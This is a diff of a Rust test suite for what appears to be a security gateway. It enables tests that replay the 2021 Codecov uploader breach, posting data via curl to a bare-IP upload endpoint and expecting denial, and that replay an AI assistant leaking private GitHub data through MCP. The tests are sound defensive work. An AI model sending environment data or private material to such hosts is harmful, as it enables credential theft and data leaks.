@@ -91,7 +91,6 @@ fn in_words(decision: &str) -> &str {
 }
 
 #[test]
-#[ignore = "open: not shown to be stopped yet"]
 fn a_coverage_uploader_sends_its_report_and_not_the_environment() {
     let steps = steps("codecov-2021");
     if steps.is_empty() {
@@ -110,14 +109,15 @@ fn a_coverage_uploader_sends_its_report_and_not_the_environment() {
     let send = |method: &str, url: &str, body: Option<&str>| {
         let mut curl = Command::new("curl");
         curl.stdin(Stdio::null()).env_remove("NO_PROXY").env_remove("no_proxy");
-        curl.args(["--silent", "--show-error", "--max-time", "20", "--include", "--suppress-connect-headers"]);
-        curl.args(["--proxy", &format!("http://x:{token}@{proxy}"), "--cacert", ca.to_str().expect("text")]);
+        curl.args(["--silent", "--show-error", "--max-time", "20", "--include"]);
+        curl.args(["--proxy", &format!("http://agent:{token}@{proxy}"), "--cacert", ca.to_str().expect("text")]);
         curl.args(["--request", method, url]);
         if let Some(body) = body {
             curl.args(["--header", "Content-Type: text/plain", "--data-binary", body]);
         }
         let said = text(&curl.output().expect("curl runs"));
-        let decision = said.lines().find_map(|line| {
+        // The last: that of the call, or that of the tunnel which was refused to it.
+        let decision = said.lines().rev().find_map(|line| {
             let line = line.to_lowercase();
             line.strip_prefix("aegis-decision: ").map(|decision| decision.trim().to_owned())
         });
@@ -135,8 +135,9 @@ fn a_coverage_uploader_sends_its_report_and_not_the_environment() {
         "{}",
         tool.seen()
     );
-    // Each of what was wrong is enough by itself.
     let report = steps[1]["call"]["body"].as_str();
+    assert!(tool.seen().contains(report.expect("a body")), "not a letter of the report is changed: {}", tool.seen());
+    // Each of what was wrong is enough by itself.
     assert_eq!(send("POST", "http://codecov.io/upload/v4", report), "deny", "no TLS");
     assert_eq!(send("POST", "https://104.248.94.23/upload/v2", report), "deny", "no name");
     let environment = steps[2]["call"]["body"].as_str().expect("a body");
@@ -221,7 +222,6 @@ fn a_builder_reads_in_a_freeze_and_changes_nothing() {
 }
 
 #[test]
-#[ignore = "open: not shown to be stopped yet"]
 fn an_assistant_tells_the_public_nothing_that_is_private() {
     let steps = steps("github-mcp-2025");
     if steps.is_empty() {
@@ -234,7 +234,8 @@ fn an_assistant_tells_the_public_nothing_that_is_private() {
     let session = Session::open(&gateway, "github-mcp", &token);
     let call = |step: &Value| session.call(step["call"]["tool"].as_str().expect("a tool"), &step["call"]["arguments"]);
     let last = steps.len() - 1;
-    assert_eq!(call(&steps[last]).0, "allow", "the same change, before anything private was read");
+    let (decision, answer) = call(&steps[last]);
+    assert_eq!(decision, "allow", "the same change, before anything private was read: {answer}");
     for step in &steps {
         let (decision, answer) = call(step);
         assert_eq!(in_words(&decision), step["expect"].as_str().expect("an answer"), "{step}\n{answer}");
